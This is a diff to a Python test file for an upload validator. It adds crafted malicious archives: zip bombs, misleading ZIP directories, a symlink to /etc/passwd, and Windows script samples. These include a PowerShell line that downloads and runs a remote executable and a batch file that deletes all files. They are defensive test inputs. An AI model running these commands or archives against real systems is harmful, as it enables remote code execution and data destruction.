@@ -5,7 +5,9 @@ from __future__ import annotations
 
 import io
 import stat
+import struct
 import zipfile
+import zlib
 
 from tests.integration.document_helpers import EXE, PNG, pdf
 
@@ -46,6 +48,47 @@ def lying_sizes(data: bytes) -> bytes:
     return data.replace(real, (1).to_bytes(4, "little"))
 
 
+def stated_directory(entries: int, stated: int, zip64: bool = False) -> bytes:
+    """The reviewer's reproductions: a ZIP of one 5-byte entry whose central directory lists it
+    ``entries`` times, its end record stating ``stated`` entries and the directory's real size. Plain: the
+    end record's disk numbers spell its signature again (the last one in the tail is not the record
+    zipfile reads). ``zip64``: the size and count stand in a ZIP64 record (with its locator), the end
+    record before it states one entry and a directory of 46 bytes."""
+    name, data = b"a.txt", b"hello"
+    crc, version = zlib.crc32(data), 45 if zip64 else 20
+    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, 5, 5, len(name), 0) + name + data
+    item = struct.pack(
+        "<4s6H3L5H2L", b"PK\x01\x02", version, version, 0, 0, 0, 0, crc, 5, 5, len(name), 0, 0, 0, 0, 0, 0
+    )
+    directory = (item + name) * entries
+    if not zip64:
+        end = b"PK\x05\x06" * 2 + struct.pack("<HHLLH", stated, stated, len(directory), len(local), 0)
+        return local + directory + end
+    record = struct.pack(
+        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, stated, stated, len(directory), len(local)
+    )
+    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(local) + len(directory), 1)
+    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, 46, len(local), 0)
+    return local + directory + record + locator + end
+
+
+def office(mime: str = "docx", *parts: tuple[str, bytes]) -> bytes:
+    """A minimal Word document (``docx``) or OpenDocument text (``odt``), with ``parts`` added."""
+    base: list[tuple[str | zipfile.ZipInfo, bytes]]
+    if mime == "odt":  # its mimetype first and stored, as OpenDocument requires
+        base = [
+            (zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.text"),
+            ("content.xml", b"<?xml?><x/>"),
+        ]
+    else:
+        base = [
+            ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
+            ("word/document.xml", b"<?xml?><w/>"),
+        ]
+    return zip_of(*base, *parts)
+
+
+DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
 PLAIN_PDF = pdf_with(b"/OpenAction [0 /Fit]")  # an /OpenAction that only shows the first page
 GOOD_ZIP = zip_of(("tekeningen/", b""), ("tekeningen/gevel.pdf", pdf("gevel")), ("foto.png", PNG))
 
@@ -86,7 +129,18 @@ BAD_PDFS = [
         "bevat JavaScript",
     ),
 ]
-BOMB = zip_of(("nullen.bin", bytes(20 * 1024 * 1024)))
+#: scripts and installers Windows runs on a double click: none is an executable by its first bytes
+SCRIPTS = [
+    ("start.js", b'new ActiveXObject("WScript.Shell").Run("cmd");'),
+    ("start.vbs", b'CreateObject("WScript.Shell").Run "cmd"'),
+    ("start.hta", b"<html><script>new ActiveXObject('WScript.Shell')</script></html>"),
+    ("start.ps1", b"Invoke-WebRequest http://x/y.exe -OutFile y.exe; ./y.exe"),
+    ("start.bat", b"@echo off\r\ndel /q *\r\n"),
+    ("snelkoppeling.lnk", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(68)),
+    ("setup.msi", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)),
+    ("schijf.iso", bytes(32769) + b"CD001"),
+]
+BOMB = zip_of(("nullen.png", PNG + bytes(20 * 1024 * 1024)))  # an image of the type's list, mostly zeros
 BAD_ZIPS = [
     (
         "executable",
@@ -101,9 +155,33 @@ BAD_ZIPS = [
     ("drive", zip_of(("C:/Windows/x.txt", b"x")), "document-zip-pad", "'C:/Windows/x.txt'"),
     ("symlink", zip_of((symlink("passwd"), b"/etc/passwd")), "document-zip-link", "'passwd'"),
     ("nested", zip_of(("binnen.zip", GOOD_ZIP)), "document-zip-genest", "'binnen.zip' is zelf een archief"),
+    ("7z", zip_of(("x.7z", b"7z\xbc\xaf\x27\x1c" + bytes(40))), "document-zip-genest", "'x.7z' is zelf"),
+    ("cab", zip_of(("x.cab", b"MSCF" + bytes(60))), "document-zip-genest", "'x.cab' is zelf een archief"),
+    (
+        "readme",
+        zip_of(("LEESMIJ.txt", b"Zie de tekening.")),
+        "document-zip-verkeerd-type",
+        "'LEESMIJ.txt' is",
+    ),
+    (
+        "docx",
+        zip_of(("brief.docx", office())),
+        "document-zip-verkeerd-type",
+        "'brief.docx' is application/vnd",
+    ),
+    (
+        "odt",
+        zip_of(("brief.odt", office("odt"))),
+        "document-zip-verkeerd-type",
+        "'brief.odt' is application/",
+    ),
     ("bomb", BOMB, "document-zip-bom", "zipbom"),
-    ("lying sizes", lying_sizes(BOMB), "document-zip-onleesbaar", "'nullen.bin' is beschadigd"),
+    ("lying sizes", lying_sizes(BOMB), "document-zip-onleesbaar", "'nullen.png' is beschadigd"),
     ("many", zip_of(*((f"{i}.txt", b"") for i in range(1001))), "document-zip-te-veel-bestanden", "1001"),
+    *(
+        (f"script {name}", zip_of((name, content)), "document-zip-verkeerd-type", f"'{name}' is")
+        for name, content in SCRIPTS
+    ),
     (
         "huge directory",
         zip_of(*((f"tekeningen/deel-{i:05d}-{'x' * 40}.txt", b"") for i in range(12_000))),
